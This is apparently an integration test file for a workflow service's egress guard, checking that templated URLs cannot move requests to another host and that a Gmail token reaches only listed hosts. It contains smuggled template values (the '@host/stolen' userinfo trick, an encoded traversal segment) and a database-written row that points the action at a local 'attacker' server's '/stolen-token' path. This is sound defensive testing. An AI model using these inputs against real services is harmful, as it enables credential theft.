import { Sink } from '@autoflow/fakes';
import { freePort, spawnApp } from '@autoflow/local-stack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { field, http, System, type WorkflowBody, waitFor } from '../src/system.js';

// Issue 11, item 1: a template cannot move a URL to another host, and a credential's token goes only
// to its provider's hosts or to hosts the workflow's owner listed. The "attacker" is a second local
// server, allow-listed like the sink, so that the egress guard is not what stops the calls.

const sink = new Sink();
const attacker = new Sink();
let system: System;
let token: string;
let userId: number;
let gmailCredentialId: number;

beforeAll(async () => {
  await Promise.all([sink.start(), attacker.start()]);
  system = new System({ allowedHosts: [sink.hostPort, attacker.hostPort] });
  await system.start();
  ({ token, userId } = await system.signUp('egress@example.com'));
  gmailCredentialId = await system.insertConnectedCredential(userId, 'gmail', 'google-access-token');
});

afterAll(async () => {
  await system?.stop();
  await Promise.all([sink.stop(), attacker.stop()]);
});

function webhookToHttp(config: Record<string, unknown>, credentialsId?: number): WorkflowBody {
  return {
    name: `egress ${Math.random().toString(36).slice(2, 8)}`,
    trigger: { serviceProvider: 'webhook', triggerId: 'receive', config: {} },
    action: {
      serviceProvider: 'http',
      actionId: 'request',
      config: { method: 'POST', ...config },
      ...(credentialsId === undefined ? {} : { credentialsId }),
    },
  };
}

/** The answer to creating a workflow: the workflow, or the problem. */
async function create(body: WorkflowBody): Promise<{ status: number; body: unknown }> {
  const { data, error, response } = await system.client(token).POST('/api/workflows', { body });
  return { status: response.status, body: data ?? error };
}

function createActive(body: WorkflowBody): Promise<{ id: number; hookUrl: string }> {
  return system.createActiveWorkflow(token, body);
}

/** Writes a workflow's action config straight into Postgres, as if the API's checks were bypassed. */
async function overwriteActionConfig(workflowId: number, config: Record<string, unknown>): Promise<void> {
  await system.sql`update workflows set action_config = ${system.sql.json(JSON.parse(JSON.stringify(config)))} where id = ${workflowId}`;
}

async function fire(hookUrl: string, eventId: string, body: unknown): Promise<void> {
  const response = await http('POST', hookUrl, { body, headers: { 'webhook-id': eventId } });
  expect(response.status, JSON.stringify(response.body)).toBe(202);
}

async function finishedRun(workflowId: number): Promise<unknown> {
  return waitFor(`a finished run of workflow ${workflowId}`, async () => {
    const executions = await system.executions(token, workflowId);
    return executions.find((execution) => field(execution, 'status') !== 'running');
  });
}

function issuePaths(body: unknown): string[] {
  const issues = field(body, 'issues');
  return Array.isArray(issues) ? issues.map((issue) => JSON.stringify(field(issue, 'path'))) : [];
}

describe('URL templates', () => {
  it('refuses at save a URL whose host a template could change (the userinfo trick)', async () => {
    const response = await create(webhookToHttp({ url: 'http://partner.example.com{{trigger.body.p}}' }));
    expect(response.status, JSON.stringify(response.body)).toBe(400);
    expect(field(response.body, 'code')).toBe('validation_failed');
    expect(issuePaths(response.body)).toContain(JSON.stringify(['action', 'config', 'url']));

    for (const url of [
      'http://{{trigger.body.host}}/x',
      '{{trigger.body.url}}',
      `${sink.baseUrl}/x?{{trigger.body.name}}=1`,
    ]) {
      const refused = await create(webhookToHttp({ url }));
      expect(refused.status, url).toBe(400);
    }
  });

  it('fails a stored row with the userinfo trick without calling the other host', async () => {
    const workflow = await createActive(webhookToHttp({ url: `${sink.baseUrl}/ok` }));
    // Written to the database directly: the worker must hold even when the API's check was bypassed.
    await overwriteActionConfig(workflow.id, {
      method: 'POST',
      url: 'http://partner.example.com{{trigger.body.p}}',
    });
    await fire(workflow.hookUrl, 'userinfo-1', { p: `@${attacker.hostPort}/stolen` });
    const run = await finishedRun(workflow.id);
    expect(field(run, 'status')).toBe('failed');
    expect(String(field(run, 'errorMessage'))).toMatch(/url/i);
    console.log(`userinfo trick, stored row: ${String(field(run, 'errorMessage'))}`);
    expect(attacker.requests).toHaveLength(0);
  });

  it('percent-encodes template values so they stay inside their path segment or query value', async () => {
    const workflow = await createActive(
      webhookToHttp({ url: `${sink.baseUrl}/ok/{{trigger.body.segment}}?q={{trigger.body.q}}` }),
    );
    await fire(workflow.hookUrl, 'encoded-1', { segment: `@${attacker.hostPort}/../stolen`, q: 'a&b=#c' });
    const run = await finishedRun(workflow.id);
    expect(field(run, 'status'), JSON.stringify(run)).toBe('completed');
    expect(attacker.requests).toHaveLength(0);
    const received = sink.requests.find((request) => request.path.startsWith('/ok/'));
    expect(received?.path).toBe(`/ok/${encodeURIComponent(`@${attacker.hostPort}/../stolen`)}`);
  });
});

describe('credential hosts', () => {
  it('refuses at save a Gmail credential sent to a host Google does not own, unless the owner lists it', async () => {
    const refused = await create(webhookToHttp({ url: `${sink.baseUrl}/ok` }, gmailCredentialId));
    expect(refused.status, JSON.stringify(refused.body)).toBe(400);
    expect(field(refused.body, 'code')).toBe('validation_failed');
    expect(issuePaths(refused.body)).toContain(JSON.stringify(['action', 'config', 'url']));

    const listed = await createActive(
      webhookToHttp(
        { url: `${sink.baseUrl}/ok/listed`, sendCredentialTo: [sink.hostPort] },
        gmailCredentialId,
      ),
    );
    await fire(listed.hookUrl, 'listed-1', {});
    expect(field(await finishedRun(listed.id), 'status')).toBe('completed');
    expect(sink.forPath('/ok/listed').map((request) => request.authorization)).toEqual([
      'Bearer google-access-token',
    ]);
  });

  it('sends no token to an unlisted host even when the row was written to the database directly', async () => {
    const workflow = await createActive(
      webhookToHttp(
        { url: `${sink.baseUrl}/ok/direct`, sendCredentialTo: [sink.hostPort] },
        gmailCredentialId,
      ),
    );
    await overwriteActionConfig(workflow.id, { method: 'POST', url: `${attacker.baseUrl}/stolen-token` });
    await fire(workflow.hookUrl, 'direct-1', {});
    const run = await finishedRun(workflow.id);
    expect(field(run, 'status')).toBe('failed');
    expect(String(field(run, 'errorMessage'))).toContain(attacker.hostPort);
    expect(String(field(run, 'errorMessage'))).toMatch(/credential/i);
    console.log(`unlisted host, stored row: ${String(field(run, 'errorMessage'))}`);
    expect(attacker.requests.filter((request) => request.authorization !== undefined)).toEqual([]);
  });

  it('does not take a template as an owner-listed host', async () => {
    const response = await create(
      webhookToHttp(
        { url: `${sink.baseUrl}/ok`, sendCredentialTo: ['{{trigger.body.host}}'] },
        gmailCredentialId,
      ),
    );
    expect(response.status, JSON.stringify(response.body)).toBe(400);
  });
});

describe('provider settings', () => {
  it('the worker refuses to start on an invalid provider setting, and names it', async () => {
    const lines: string[] = [];
    const worker = spawnApp({
      name: 'worker',
      port: await freePort(),
      env: { ...system.launched.env, GMAIL_RESYNC_MAX_MESSAGES: 'many' },
      inheritedEnv: process.env,
      onLine: (_, line) => lines.push(line),
    });
    expect(await worker.exited).not.toBe(0);
    expect(lines.join('\n')).toContain('GMAIL_RESYNC_MAX_MESSAGES');
  });
});
